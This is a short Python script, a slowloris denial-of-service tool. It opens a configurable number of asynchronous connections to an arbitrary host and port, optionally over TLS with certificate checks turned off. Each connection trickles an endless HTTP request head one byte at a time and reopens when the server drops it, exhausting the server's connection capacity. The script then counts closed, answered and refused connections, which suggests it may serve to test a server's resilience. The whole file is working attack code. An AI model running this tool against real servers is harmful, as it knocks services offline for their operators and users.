#!/usr/bin/env python3
"""A slowloris: N connections to HOST:PORT, each trickling an endless request head one
byte per INTERVAL seconds, reopened when the server closes it, for SECONDS in all.
Prints how many connections the server closed (and how many answered first).

    trickle.py HOST PORT N SECONDS [INTERVAL] [tls]

With `tls`, each connection first completes a TLS handshake (certificate not checked) and
then trickles inside it.
"""

import asyncio
import ssl
import sys

HEAD = b"GET /slow HTTP/1.1\r\nHost: shop\r\nX-Padding: "


async def one(host, port, until, interval, tls, stats):
    loop = asyncio.get_running_loop()
    while loop.time() < until:
        try:
            reader, writer = await asyncio.open_connection(host, port, ssl=tls)
        except (OSError, ssl.SSLError):
            stats["refused"] += 1
            await asyncio.sleep(interval)
            continue
        stats["opened"] += 1
        sent = 0
        try:
            while loop.time() < until:
                byte = HEAD[sent : sent + 1] if sent < len(HEAD) else b"a"
                writer.write(byte)
                await writer.drain()
                sent += 1
                try:
                    data = await asyncio.wait_for(reader.read(256), timeout=interval)
                except asyncio.TimeoutError:
                    continue
                stats["answered" if data else "closed"] += 1
                break
        except (OSError, ssl.SSLError):
            stats["closed"] += 1
        finally:
            writer.close()


async def main():
    host, port, n, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    interval = float(sys.argv[5]) if len(sys.argv) > 5 else 1.0
    tls = None
    if len(sys.argv) > 6 and sys.argv[6] == "tls":
        tls = ssl.create_default_context()
        tls.check_hostname = False
        tls.verify_mode = ssl.CERT_NONE
    stats = {"opened": 0, "closed": 0, "answered": 0, "refused": 0}
    until = asyncio.get_running_loop().time() + seconds
    tasks = []
    for i in range(n):
        tasks.append(asyncio.create_task(one(host, port, until, interval, tls, stats)))
        if i % 500 == 499:
            await asyncio.sleep(0.05)
    await asyncio.gather(*tasks)
    print(
        f"opened {stats['opened']}, closed by the server {stats['closed']} "
        f"(after an answer {stats['answered']}), refused {stats['refused']}"
    )


asyncio.run(main())
